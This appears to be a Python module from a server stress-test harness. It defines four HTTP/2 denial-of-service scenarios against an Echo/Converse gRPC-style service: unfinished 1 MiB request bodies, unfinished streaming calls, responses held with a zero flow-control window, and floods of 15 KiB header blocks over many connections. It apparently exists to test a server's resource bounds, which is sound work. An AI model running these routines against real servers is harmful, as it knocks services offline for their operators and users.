"""Much that waits, on many connections: each within the bounds of a connection, all together without end."""

import contextlib
import struct

from wire import DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, Attacker, frame, literal, request_block

MIB = 1 << 20
NO_WINDOW = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)


def message(size):
    """EchoRequest { payload: `size` bytes } with its prefix; 16 KiB to 256 MiB."""
    length = bytes([size & 127 | 128, size >> 7 & 127 | 128, size >> 14 & 127 | 128, size >> 21])
    payload = b"\x12" + length + bytes(size)
    return struct.pack(">BI", 0, len(payload)) + payload


def _play(address, connections, begin, settings=b""):
    """Has `begin(attacker, turn)` done on each connection, and gives them all while they are held."""
    with contextlib.ExitStack() as stack:
        attackers = [stack.enter_context(Attacker(address, settings=settings)) for _ in range(connections)]
        for attacker in attackers:
            begin(attacker)
        for attacker in attackers:
            attacker.sync()
        yield attackers


def _send(attacker, stream, body, flags=0):
    """Sends a message to a server whose windows are wide open: they are not what bounds it here."""
    for index, at in enumerate(range(0, len(body), 16384)):
        last = at + 16384 >= len(body)
        attacker.send(frame(DATA, flags if last else 0, stream, body[at : at + 16384]), 1)
        if index % 12 == 11:
            attacker.read()
        if stream in attacker.ended:
            return


@contextlib.contextmanager
def unfinished_requests(address, connections=24, streams=8, method="Echo"):
    """Requests of 1 MiB of which the last byte never comes."""
    body = message(MIB)[:-1]

    def begin(attacker):
        for turn in range(streams):
            stream = 2 * turn + 1
            attacker.send(frame(HEADERS, END_HEADERS, stream, request_block(method)))
            _send(attacker, stream, body)

    yield from _play(address, connections, begin)


@contextlib.contextmanager
def unfinished_messages(address, connections=24, streams=8):
    """The same to calls of many messages, whose handlers run already."""
    with unfinished_requests(address, connections, streams, "Converse") as attackers:
        yield attackers


@contextlib.contextmanager
def answers_not_taken(address, connections=24, streams=8):
    """Answers of 1 MiB that the client gives no window for."""
    body = message(MIB)

    def begin(attacker):
        for turn in range(streams):
            stream = 2 * turn + 1
            attacker.send(frame(HEADERS, END_HEADERS, stream, request_block()))
            _send(attacker, stream, body, END_STREAM)

    yield from _play(address, connections, begin, NO_WINDOW)


@contextlib.contextmanager
def metadata(address, connections=40, streams=200):
    """Headers of 15 KiB, each of its own, to which no message follows."""

    def begin(attacker):
        for turn in range(streams):
            value = f"{turn:08}" + "x" * 15_000
            block = request_block(extra=literal("x-large", value))
            attacker.send(frame(HEADERS, END_HEADERS, 2 * turn + 1, block), 1)
            if turn % 10 == 9:
                attacker.read()

    yield from _play(address, connections, begin)


ALL = [unfinished_requests, unfinished_messages, answers_not_taken, metadata]
